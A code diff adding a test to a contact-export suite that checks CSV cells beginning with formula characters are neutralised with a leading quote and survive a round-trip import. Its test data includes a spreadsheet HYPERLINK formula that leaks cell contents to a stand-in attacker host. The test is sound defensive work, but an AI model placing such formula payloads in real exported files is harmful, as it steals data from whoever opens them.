@@ -1,4 +1,5 @@
 import { env } from 'cloudflare:workers';
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import type { Bindings } from '../../src/env';
 import { dbFor } from '../../src/platform/d1/db';
@@ -71,6 +72,79 @@ describe('contact exports', () => {
     expect(report.body).toMatchObject({ status: 'completed', created: 4, failed: 0 });
     const [original, again] = [await contactsOf(ws, held), await contactsOf(copy, held)];
     expect(again.map((c: any) => ({ ...c, source: 'api' }))).toEqual(original);
+  });
+
+  it('writes every cell a spreadsheet would run as a formula behind a quote, stores nothing changed, and imports back the same contacts', async () => {
+    const ws = await makeWorkspace({}, { pipeline: false, bulk: true });
+    const held = heldEnv();
+    const planted = {
+      email: 'planted@example.com',
+      phone: '+14155550177',
+      name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
+      address_line1: '+SUM(1,2)',
+      address_line2: '-2+3',
+      city: '@cmd',
+      annual_revenue: -1250.5,
+      job_title: "'=already quoted",
+      tags: ['=tag', 'plain'],
+      groups: ['@group'],
+      custom_fields: { formula: '=1+1', negative: -5, tab: '\tTabbed', cr: '\rCarriage', quoted: "''+twice", text: "'kept as it is", word: 'safe' },
+    };
+    const seeded = await json(ws, held, 'POST', '/v1/contacts/batch', { contacts: [planted, { email: 'safe@example.com', name: 'Safe Name' }] });
+    expect(seeded.body.data.every((d: any) => d.status === 201)).toBe(true);
+    const created = await json(ws, held, 'POST', '/v1/contact-exports', {});
+    await drain(held.env, held.sent);
+    const file = await callWith(held.env, ws, 'GET', `/v1/contact-exports/${created.body.id}/download`);
+    expect(file.status).toBe(200);
+    const [header, ...records] = parse(file.body) as string[][];
+    const cells = records.find((r) => r.includes('planted@example.com'))!;
+    expect(Object.fromEntries(header.map((column, i) => [column, cells[i]]))).toMatchObject({
+      email: 'planted@example.com',
+      phone: "'+14155550177",
+      name: `'${planted.name}`,
+      address_line1: "'+SUM(1,2)",
+      address_line2: "'-2+3",
+      city: "'@cmd",
+      annual_revenue: "'-1250.5",
+      job_title: "''=already quoted",
+      tags: "'=tag|plain",
+      groups: "'@group",
+      'custom_fields.formula': "'=1+1",
+      'custom_fields.negative': "'-5",
+      'custom_fields.tab': "'\tTabbed",
+      'custom_fields.cr': "'\rCarriage",
+      'custom_fields.quoted': "'''+twice",
+      'custom_fields.text': "'kept as it is",
+      'custom_fields.word': 'safe',
+    });
+    // No data cell starts as a formula would.
+    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(records.find((r) => r.includes('safe@example.com'))).toContain('Safe Name');
+    // What is stored is what was written.
+    const stored = (await callWith(held.env, ws, 'GET', '/v1/contacts?limit=10')).body.data.find((c: any) => c.email === planted.email);
+    expect(stored).toMatchObject({
+      name: planted.name,
+      phone: planted.phone,
+      address_line1: planted.address_line1,
+      annual_revenue: planted.annual_revenue,
+      job_title: planted.job_title,
+      custom_fields: planted.custom_fields,
+    });
+
+    const copy = await makeWorkspace({}, { pipeline: false, bulk: true });
+    const imported = await upload(held.env, copy, file.body);
+    expect(imported.status, JSON.stringify(imported.body)).toBe(201);
+    await drain(held.env, held.sent);
+    expect((await callWith(held.env, copy, 'GET', `/v1/contact-imports/${imported.body.id}`)).body).toMatchObject({
+      status: 'completed',
+      created: 2,
+      failed: 0,
+    });
+    const [original, again] = [await contactsOf(ws, held), await contactsOf(copy, held)];
+    expect(again.map((c: any) => ({ ...c, source: 'api' }))).toEqual(original);
+    const groupsOf = async (w: TestWorkspace) =>
+      (await callWith(held.env, w, 'GET', '/v1/contact-groups?limit=100')).body.data.map((g: any) => g.name);
+    expect(await groupsOf(copy)).toEqual(await groupsOf(ws));
   });
 
   it('exports only what the filter selects, across several pages', async () => {
